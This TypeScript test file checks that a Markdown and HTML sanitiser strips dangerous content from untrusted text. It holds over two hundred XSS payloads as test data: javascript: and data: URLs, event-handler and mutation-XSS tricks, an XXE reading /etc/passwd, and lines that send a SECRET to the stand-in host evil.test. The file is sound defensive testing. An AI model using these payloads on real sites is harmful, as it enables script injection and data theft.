import { describe, expect, it } from 'vitest'
import { createMarkdownBlocks, escapeHtml } from './markdown-blocks.ts'
import { sanitiseHtml } from './sanitise-html.ts'

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#09;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://x.test/%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://x.test/1',
  'file:///etc/passwd',
  'file://evil.test/share',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x',
  'smb://evil.test/x',
  'ftp://evil.test/x',
  'mailto:a@b.test',
  'tel:+123',
  'app://deckhand/settings',
  'chrome://gpu',
  'about:blank',
  'view-source:https://x.test',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/api/agents',
  '#top',
  'https:evil.test',
  'http:\\\\evil.test',
]

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<script src=https://evil.test/x.js></script>',
  '<SCRIPT/x>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">import("https://evil.test")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/?d=SECRET">',
  '<img srcset="https://evil.test/a 1x">',
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset=https://evil.test/a><img></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frame src=javascript:alert(1)>',
  '<frameset onload=alert(1)>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x></applet>',
  '<portal src=https://evil.test>',
  '<fencedframe></fencedframe>',
  '<webview src=https://evil.test></webview>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<link rel=prefetch href=https://evil.test/?SECRET>',
  '<link rel=icon href=https://evil.test/>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<div style="background:url(https://evil.test)">x</div>',
  '<p style="position:fixed;inset:0">overlay</p>',
  '<p class="fixed inset-0 z-50">overlay</p>',
  '<p id="root">clobber</p>',
  '<a name="getElementById">x</a>',
  '<form action=javascript:alert(1)><button>go</button></form>',
  '<form action=https://evil.test><input name=key value=SECRET><input type=submit></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=https://evil.test>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<video src=https://evil.test onerror=alert(1)></video>',
  '<video poster=https://evil.test/?SECRET></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<track src=https://evil.test>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src=javascript:alert(1)>',
  '<layer src=https://evil.test></layer>',
  '<table background=javascript:alert(1)><td>x',
  '<td background=https://evil.test>',
  '<a href="https://x.test" onclick=alert(1)>x</a>',
  '<a href="https://x.test" target=_blank ping=https://evil.test>x</a>',
  '<a href="https://x.test" download>x</a>',
  '<a href="https://x.test" style="x:expression(alert(1))">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p onpointerenter="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p contenteditable onbeforeinput=alert(1)>x</p>',
  '<p tabindex=1 onfocus=alert(1) autofocus>x</p>',
  '<p draggable=true ondragstart=alert(1)>x</p>',
  '<p popover onbeforetoggle=alert(1)>x</p>',
  '<x-card onclick=alert(1)></x-card>',
  '<p is="x-p">x</p>',
  '<xss onanimationstart=alert(1) style="animation-name:x">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<slot onslotchange=alert(1)></slot>',
  '<dialog open><form method=dialog></form></dialog>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><script>alert(1)</script>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=`alert(1)`>',
  '<<script>alert(1)//<</script>',
  '<a href="https://x.test"><img src=x onerror=alert(1)></a>',
  '<p data-x="1" aria-label="Approve">x</p>',
  '<span class="md-image fixed">x</span>',
  '<code class="language-js onclick">x</code>',
  '<ol start="1" onclick=alert(1)><li>x</ol>',
  '<div role="dialog" aria-modal="true">Type your key</div>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
]

const MARKDOWN = [
  ...ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x][1]\n\n[1]: ${address}`,
  ]),
  ...ELEMENTS.flatMap((element) => [element, `text ${element} text`, `- ${element}`, `| a |\n|---|\n| ${element} |`, `> ${element}`]),
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '- ```"><img/src=x/onerror=alert(1)>\n  code\n  ```',
  '![x](https://evil.test/?d=SECRET)',
  '![x](https://evil.test/"onerror="alert(1))',
  '[x](https://evil.test/"onclick="alert(1))',
  '[x](https://x.test "title\\" onclick=alert(1)")',
  '[<img src=x onerror=alert(1)>](https://x.test)',
  '![<img src=x onerror=alert(1)>](https://x.test)',
  '`<img src=x onerror=alert(1)>`',
  '<https://x.test/"onclick="alert(1)>',
  '[a](https://x.test)<script>alert(1)</script>',
]

const HTML = [
  ...ELEMENTS,
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...ADDRESSES.map((address) => `<a href='${escapeHtml(address)}'>x</a>`),
]

const HARMLESS_ELEMENTS = new Set(
  'P BR HR H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE KBD SUB SUP SPAN A UL OL LI TABLE THEAD TBODY TR TH TD'.split(' '),
)
const HARMLESS_VALUES: Record<string, RegExp> = {
  href: /^https?:\/\/[^\s"'<>]+$/,
  title: /^https?:\/\//,
  rel: /^noopener noreferrer nofollow$/,
  class: /^(md-image|language-[\w+#.-]+)$/,
  start: /^\d*$/,
  align: /^(left|right|center)$/,
}

function harmIn(fragment: ParentNode): string[] {
  return [...fragment.querySelectorAll('*')].flatMap((element) => [
    ...(HARMLESS_ELEMENTS.has(element.tagName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes]
      .filter(({ name, value }) => !HARMLESS_VALUES[name]?.test(value))
      .map(({ name, value }) => `${name}=${value}`),
  ])
}

describe('untrusted text', () => {
  it('is tested with more than two hundred attacks', () => {
    expect(new Set([...MARKDOWN, ...HTML]).size).toBeGreaterThan(200)
  })

  it('does no harm as HTML', () => {
    for (const html of HTML) expect(harmIn(sanitiseHtml(html)), html).toEqual([])
  })

  it('does no harm as Markdown, finished or growing', () => {
    const seen = new Set<string>()
    for (const markdown of MARKDOWN) {
      for (const block of [...createMarkdownBlocks().update(markdown, true), ...createMarkdownBlocks().update(markdown, false)]) {
        if (block.kind === 'code') expect(block.lang, markdown).toMatch(/^[\w+#.-]{0,30}$/)
        else if (!seen.has(block.html)) expect(harmIn(sanitiseHtml(block.html)), markdown).toEqual([])
        if (block.kind === 'html') seen.add(block.html)
      }
    }
  })

  it('shows where a link leads, whatever its text claims', () => {
    const link = sanitiseHtml('<a href="https://evil.test/login">https://bank.test</a>').querySelector('a')!
    expect(link.title).toBe('https://evil.test/login')
    expect(link.rel).toBe('noopener noreferrer nofollow')
  })

  it('keeps the output of Markdown', () => {
    const markdown = '### T\n\n1. **a** *b* ~~c~~ `d`\n\n> q\n\n| a | b |\n|:-:|--:|\n| 1 | [x](https://x.test) |\n\n---\n\nH<sub>2</sub>O'
    const box = document.createElement('div')
    for (const block of createMarkdownBlocks().update(markdown, true)) if (block.kind === 'html') box.append(sanitiseHtml(block.html))
    for (const selector of [
      'h5',
      'ol li strong',
      'em',
      'del',
      'code',
      'blockquote',
      'th[align=center]',
      'td[align=right] a[href]',
      'hr',
      'sub',
    ]) {
      expect(box.querySelector(selector), selector).not.toBeNull()
    }
  })
})
